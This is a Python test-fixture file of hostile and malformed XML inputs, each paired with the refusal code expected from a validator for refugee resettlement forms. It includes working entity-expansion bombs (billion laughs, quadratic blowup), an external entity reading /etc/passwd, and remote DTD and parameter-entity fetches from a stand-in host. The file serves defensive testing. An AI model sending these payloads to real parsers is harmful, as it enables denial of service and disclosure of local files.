"""Forms in XML made to do harm: name → (content, code of the refusal, "" where it is judged)."""

from collections.abc import Callable

DECLARED = b'<?xml version="1.0" encoding="utf-8"?>'
FORM = b"<UNHCR_RRF><RRFBATCHTYPE/><CASE/></UNHCR_RRF>"


def laughs() -> bytes:
    """A billion laughs, as it has been sent since 2003."""
    lines = [b'<!ENTITY a0 "haha">']
    for n in range(1, 11):
        lines.append(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10))
    return DECLARED + b"<!DOCTYPE x [" + b"".join(lines) + b"]><UNHCR_RRF>&a10;</UNHCR_RRF>"


def quadratic() -> bytes:
    """One long entity, named again and again: 50 MB that would be terabytes."""
    names = b"&a;" * 8_000_000
    return b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 25_000_000 + b'">]><x>' + names + b"</x>"


def photograph(text: bytes) -> bytes:
    """A form with one photograph, which is judged; the form has faults enough."""
    photo = b"<dataPhotograph><Photo>" + text + b"</Photo></dataPhotograph>"
    return DECLARED + b"<UNHCR_RRF><CASE>" + photo + b"</CASE></UNHCR_RRF>"


FORMS: dict[str, tuple[Callable[[], bytes], str]] = {
    "a billion laughs": (laughs, "declares_entities"),
    "a bomb of 50 MB": (quadratic, "declares_entities"),
    "an external entity": (
        lambda: b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><UNHCR_RRF>&a;</UNHCR_RRF>',
        "declares_entities",
    ),
    "a remote definition": (
        lambda: b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><UNHCR_RRF/>',
        "declares_entities",
    ),
    "a parameter entity": (
        lambda: b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x"> %a;]><UNHCR_RRF/>',
        "declares_entities",
    ),
    "an entity nobody declared": (lambda: b"<UNHCR_RRF>&a;</UNHCR_RRF>", "not_well_formed"),
    "a million elements": (
        lambda: b"<UNHCR_RRF>" + b"<CASE/>" * 1_000_000 + b"</UNHCR_RRF>",
        "too_much_inside",
    ),
    "a million within one another": (lambda: b"<a>" * 1_000_000, "too_much_inside"),
    "a million attributes": (
        lambda: b"<a " + b" ".join(b'a%d=""' % n for n in range(1_000_000)) + b"/>",
        "too_much_inside",
    ),
    "a million attributes in UTF-16": (
        lambda: ("<a " + " ".join(f"a{n} = '>'" for n in range(1_000_000)) + "/>").encode("utf-16"),
        "too_much_inside",
    ),
    "a name of 10 MB": (lambda: b"<" + b"a" * 10_000_000 + b"/>", "too_much_inside"),
    "a text of 40 MB": (
        lambda: b"<UNHCR_RRF>" + b"a" * 40_000_000 + b"</UNHCR_RRF>",
        "too_much_inside",
    ),
    "a comment that never ends": (lambda: b"<a><!--" + b"x" * 30_000_000, "cut_off"),
    "a tag that never ends": (lambda: b'<a b="' + b"a" * 30_000_000, "cut_off"),
    "100 MB": (lambda: FORM + b" " * 100_000_000, "too_large"),
    "cut off in the middle": (lambda: FORM[:30], "cut_off"),
    "cut off in a tag": (lambda: FORM[:-3], "cut_off"),
    "cut off within a sign": (lambda: DECLARED + "<a>é".encode()[:-1], "wrong_encoding"),
    "two roots": (lambda: FORM + FORM, "not_well_formed"),
    "nothing": (lambda: b"", "empty_file"),
    "spaces alone": (lambda: b"  \n ", "not_xml"),
    "an archive": (lambda: b"PK\x03\x04" + bytes(500), "not_xml"),
    "a PDF": (lambda: b"%PDF-1.7\n", "not_xml"),
    "null bytes": (lambda: b"<UNHCR_RRF>\0</UNHCR_RRF>", "not_well_formed"),
    "Latin-1 that says it is UTF-8": (
        lambda: DECLARED + "<UNHCR_RRF>é</UNHCR_RRF>".encode("latin-1"),
        "wrong_encoding",
    ),
    "UTF-8 that says it is UTF-16": (
        lambda: b'<?xml version="1.0" encoding="utf-16"?><UNHCR_RRF/>',
        "wrong_encoding",
    ),
    "an encoding nobody knows": (
        lambda: b'<?xml version="1.0" encoding="x-klingon"?><UNHCR_RRF/>',
        "wrong_encoding",
    ),
    "UTF-7": (
        lambda: b'<?xml version="1.0" encoding="utf-7"?><UNHCR_RRF>+ADw-</UNHCR_RRF>',
        "wrong_encoding",
    ),
    "a page": (lambda: b"<html><script>1</script></html>", ""),
    "a byte order mark": (lambda: b"\xef\xbb\xbf" + DECLARED + FORM, ""),
    "UTF-16 with its mark": (
        lambda: '<?xml version="1.0" encoding="utf-16"?><UNHCR_RRF/>'.encode("utf-16"),
        "",
    ),
    "Latin-1 that says so": (
        lambda: '<?xml version="1.0" encoding="iso-8859-1"?><a>é</a>'.encode("latin-1"),
        "",
    ),
    "a photograph of 52 MB": (lambda: photograph(b"QUJD" * 17_500_000), ""),
    "a photograph that is no base64": (lambda: photograph(b"%" * 1_000_000), ""),
    "a photograph of a gigapixel": (
        lambda: photograph(b"iVBORw0KGgoAAAANSUhEUgAAdTAAAHUwCAYAAABmJ/i6AAAAAElEQVQ1rwYe"),
        "",
    ),
}
